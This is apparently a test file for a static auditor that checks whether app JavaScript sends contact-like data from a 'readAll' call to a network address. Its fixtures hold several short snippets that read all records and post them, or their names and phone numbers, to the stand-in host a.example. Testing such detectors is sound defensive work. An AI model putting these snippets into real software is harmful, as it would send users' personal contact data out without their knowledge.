"""What scripts send of what a call gives them, and what they keep to themselves."""

import pytest

from auditor.scripts.asking import find_dialogs
from auditor.scripts.carrying import sent_by
from auditor.scripts.program import Scripts
from auditor.scripts.running import Runs
from auditor.scripts.syntax import Source

SENT = {
    "callback": "c.readAll(function(p){ fetch('https://a.example/x',{method:'POST',body:JSON.stringify(p)}) })",
    "mapped": "c.readAll(p=>{ const list=p.map(one=>({n:one.name})); uni.request({url:'https://a.example/x',data:{list}}) })",
    "promise": "const API='https://a.example'; async function go(){ const p=await c.readAll(); await axios.post(API+'/x',{p}) }",
    "then": "c.readAll().then(function(p){ return p.map(q) }).then(function(l){ $.post('https://a.example/x',l) })",
    "helper": "function up(list){ return fetch(`https://a.example/${v}`,{body:JSON.stringify({list:list})}) } c.readAll(function(p){ up(p.map(f)) })",
    "loop": "c.readAll(function(p){ var l=[]; for(const one of p){ l.push(one.phone) } send(l) }); function send(l){ fetch('https://a.example/x',{body:l}) }",
    "each": "c.readAll(function(p){ var l=[]; p.forEach(function(o){ l.push({n:o.n}) }); fetch('https://a.example/x',{body:JSON.stringify(l)}) })",
    "book": "c.readAll('P',function(b){ b.find([],function(p){ fetch('https://a.example/x',{body:p}) }) })",
    "property": "var page={load(){ var t=this; c.readAll(function(p){ t.people=p }) },up(){ fetch('https://a.example/x',{body:this.people}) }}",
    "resolved": "function all(){ return new Promise(function(r){ c.readAll(function(p){ r(p) }) }) } async function go(){ const p=await all(); fetch('https://a.example/x',{body:p}) }",
    "done": "function all(done){ c.readAll(function(p){ done(p) }) } all(function(p){ fetch('https://a.example/x',{body:p}) })",
    "xhr": "c.readAll(function(p){ var x=new XMLHttpRequest(); x.open('POST','https://a.example/x'); x.send(JSON.stringify(p)) })",
}
KEPT = {
    "shown": "c.readAll(function(p){ p.forEach(function(o){ list.add(o.name) }) }); fetch('https://a.example/x',{body:amount})",
    "counted": "c.readAll(function(p){ fetch('https://a.example/x',{body:p.length}) })",
    "something else": "c.readAll(function(p){ show(p); fetch('https://a.example/x',{body:form}) })",
    "logged": "c.readAll(function(p){ console.log(p) })",
    "compared": "c.readAll(function(p){ fetch('https://a.example/x',{body:p===null}) })",
}


def sent(script):
    scripts = Scripts((Source("app.js", script.encode()),))
    assert scripts.sources[0].is_whole
    runs = Runs(scripts, find_dialogs(scripts))
    return sent_by(runs, list(scripts.calls([".readAll"]))).sent


@pytest.mark.parametrize("name", SENT)
def test_what_is_carried_to_a_call_that_sends_is_sent(name):
    found = sent(SENT[name])
    assert len(found) == 1
    assert name == "xhr" or found[0].address.startswith("https://a.example")


@pytest.mark.parametrize("name", KEPT)
def test_what_is_not_carried_there_is_not(name):
    assert sent(KEPT[name]) == ()
